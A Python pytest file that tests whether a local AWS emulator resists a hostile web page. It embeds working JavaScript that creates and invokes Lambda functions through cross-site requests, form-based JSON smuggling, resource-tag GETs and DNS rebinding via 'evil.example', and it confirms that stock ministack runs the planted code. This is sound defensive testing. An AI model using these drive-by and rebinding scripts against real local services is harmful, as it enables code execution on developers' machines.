"""A web page in a real browser tries to run code on this machine through the engine."""

from __future__ import annotations

import json
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any

import pytest

from e2e.page import chromium, hostile_site
from local_engine.control import Engine
from local_engine.raw_requests import client, make_function, owner_of
from local_engine.testing import REGION, Aws

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from playwright.sync_api import Browser, Page

#: Where ministack puts what comes without a signature.
DEFAULT_REGION = "us-east-1"
#: Whose name means this machine, as after DNS rebinding.
REBOUND = "evil.example"
#: Leaves a mark where it is told, and answers what no page should read.
MARKER = """
def handle(event, context):
    with open({path!r}, "a") as file:
        file.write("ran ")
    return "private"
"""
#: What a page can send without asking first, each way on its own: "read", "sent" or "refused".
ATTACK = """async ({url, body, name}) => {
  const said = {};
  const invoke = way => `/2015-03-31/functions/${name}-${way}/invocations`;
  const wait = (start, limit = 3000) => new Promise(done => {
    setTimeout(() => done("sent"), limit);
    start(done);
  });
  const post = async (way, path, options) => {
    try {
      const response = await fetch(url + path, {method: "POST", ...options});
      const text = await response.text();
      const isSent = response.ok || response.type === "opaque";
      said[way] = response.ok && text ? `read ${text}` : isSent ? "sent" : "refused";
    } catch { said[way] = "refused"; }
  };
  const create = way => body.replaceAll(name, `${name}-${way}`);
  const path = "/2015-03-31/functions";
  const plain = {"Content-Type": "text/plain"};
  await post("blind", path, {mode: "no-cors", headers: plain, body: create("blind")});
  await post("blind-run", invoke("blind"), {mode: "no-cors", body: "{}"});
  await post("seen", path, {headers: plain, body: create("seen")});
  await post("seen-run", invoke("seen"), {body: "{}"});
  await post("asked", path, {headers: {"Content-Type": "application/json"}, body: create("asked")});
  await post("asked-run", invoke("asked"), {headers: {"X-Any": "1"}, body: "{}"});
  await post("signed", path, {
    headers: {Authorization: "AWS4-HMAC-SHA256 Credential=test/20260101/us-east-1/lambda/aws4_request, " +
      "SignedHeaders=host, Signature=00"}, body: create("signed"),
  });
  await post("signed-run", invoke("signed"), {body: "{}"});
  navigator.sendBeacon(url + path, create("beacon"));
  said.form = await wait(done => {
    const frame = document.createElement("iframe");
    frame.name = "hidden";
    document.body.append(frame);
    const form = document.createElement("form");
    Object.assign(form, {method: "POST", action: url + path, enctype: "text/plain", target: "hidden"});
    const field = document.createElement("input");
    // A form writes name=value: the equals sign goes into a string that nobody reads.
    field.name = create("form").slice(0, -1) + ', "Description": "';
    field.value = '"}';
    form.append(field);
    document.body.append(form);
    frame.addEventListener("load", () => done("sent"));
    form.submit();
  });
  await post("form-run", invoke("form"), {mode: "no-cors", body: "{}"});
  const get = (tag, attribute, address) => wait(done => {
    const element = document.createElement(tag);
    element[attribute] = url + address;
    if (tag === "link") element.rel = "stylesheet";
    element.addEventListener("load", () => done("sent"));
    element.addEventListener("error", () => done("refused"));
    document.body.append(element);
  });
  const queue = way => `/?Action=CreateQueue&Version=2012-11-05&QueueName=${name}-${way}`;
  for (const [tag, attribute] of [["script", "src"], ["img", "src"], ["iframe", "src"], ["link", "href"]]) {
    await get(tag, attribute, queue(tag));
  }
  await post("fault", "/_reprise/faults", {mode: "no-cors", body: '{"service": "sns", "status": 500}'});
  said.socket = await wait(done => {
    const socket = new WebSocket(url.replace("http", "ws") + "/_aws/execute-api/x/y");
    socket.addEventListener("open", () => done("read"));
    socket.addEventListener("error", () => done("refused"));
  });
  return said;
}"""
#: The same origin to the browser: it may read whatever is answered.
REBOUND_ATTACK = """async ({body, path}) => {
  const ask = async (path, options) => {
    const response = await fetch(path, options);
    return response.ok ? `read ${await response.text()}` : "refused";
  };
  return {
    create: await ask("/2015-03-31/functions", {method: "POST", body}),
    run: await ask(path, {method: "POST", body: "{}"}),
    list: await ask("/2015-03-31/functions/"),
    health: await ask("/_reprise/health"),
  };
}"""


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium(f"--host-resolver-rules=MAP {REBOUND} 127.0.0.1") as found:
        yield found


@pytest.fixture(scope="module")
def stock(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Aws]:
    """Run ministack as it is: what the attack does there shows that it is one."""
    engine = Engine(state_dir=tmp_path_factory.mktemp("stock"))
    engine.start(stock=True)
    yield Aws.at(engine)
    engine.stop()


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    with browser.new_context() as context:
        yield context.new_page()


@dataclass(frozen=True)
class Seen:
    """What became of an attack."""

    said: dict[str, str]
    """What the page was told, by the way it took."""
    made: list[str]
    """Functions and queues that are there now."""
    has_run: bool
    faults: list[Any]


def attack(aws: Aws, page: Page, site: str, folder: Path) -> Seen:
    """Do all that a page of this site can, and look at what it did."""
    mark, name = folder / "mark", f"drive-by-{folder.name}"
    page.goto(site)
    body = make_function(name, aws.runtime, MARKER.format(path=str(mark))).body.decode()
    said = page.evaluate(ATTACK, {"url": aws.url, "body": body, "name": name})
    return look(aws, said, name, mark)


def look(aws: Aws, said: dict[str, str], name: str, mark: Path) -> Seen:
    functions, queues = [], []
    for region in (DEFAULT_REGION, REGION):
        lambdas, sqs = (client(aws.url, owner_of(aws), kind, region) for kind in ("lambda", "sqs"))
        functions += lambdas.list_functions()["Functions"]
        queues += sqs.list_queues(QueueNamePrefix=name).get("QueueUrls", [])
    made = [function["FunctionName"] for function in functions] + queues
    faults = aws.admin("GET", "faults")["faults"]
    aws.admin("DELETE", "faults")
    return Seen(said, [found for found in made if name in found], mark.exists(), faults)


@pytest.mark.parametrize("host", ["localhost", "127.0.0.1"], ids=["another site", "another port"])
def test_no_page_runs_anything(aws: Aws, page: Page, tmp_path: Path, host: str) -> None:
    with hostile_site() as port:
        seen = attack(aws, page, f"http://{host}:{port}/", tmp_path)
    assert (seen.made, seen.has_run, seen.faults) == ([], False, [])
    assert not [said for said in seen.said.values() if said.startswith("read")]


def test_the_same_page_runs_code_on_stock_ministack(stock: Aws, page: Page, tmp_path: Path) -> None:
    with hostile_site() as port:
        seen = attack(stock, page, f"http://localhost:{port}/", tmp_path)
    assert seen.has_run
    assert seen.said["seen-run"] == 'read "private"'
    ways = {found.rpartition("-")[2] for found in seen.made}
    assert ways >= {"blind", "seen", "asked", "signed", "beacon", "form", "script", "img", "iframe"}
    assert len(seen.faults) == 1


def rebind(aws: Aws, page: Page, folder: Path) -> Seen:
    """Do what a page can whose name was made to mean this machine."""
    mark, name = folder / "mark", f"rebound-{folder.name}"
    page.goto(f"http://{REBOUND}:{aws.url.rpartition(':')[2]}/")
    made = make_function(name, aws.runtime, MARKER.format(path=str(mark)))
    path = f"{made.path}/{name}/invocations"
    said = page.evaluate(REBOUND_ATTACK, {"body": made.body.decode(), "path": path})
    return look(aws, said, name, mark)


def test_no_rebound_name_runs_anything(aws: Aws, page: Page, tmp_path: Path) -> None:
    seen = rebind(aws, page, tmp_path)
    assert (seen.made, seen.has_run) == ([], False)
    assert set(seen.said.values()) == {"refused"}


def test_a_rebound_name_runs_code_on_stock_ministack(
    stock: Aws, page: Page, tmp_path: Path
) -> None:
    seen = rebind(stock, page, tmp_path)
    assert seen.has_run
    assert seen.said["run"] == 'read "private"'
    assert json.loads(seen.said["health"].removeprefix("read "))["status"] == "ok"
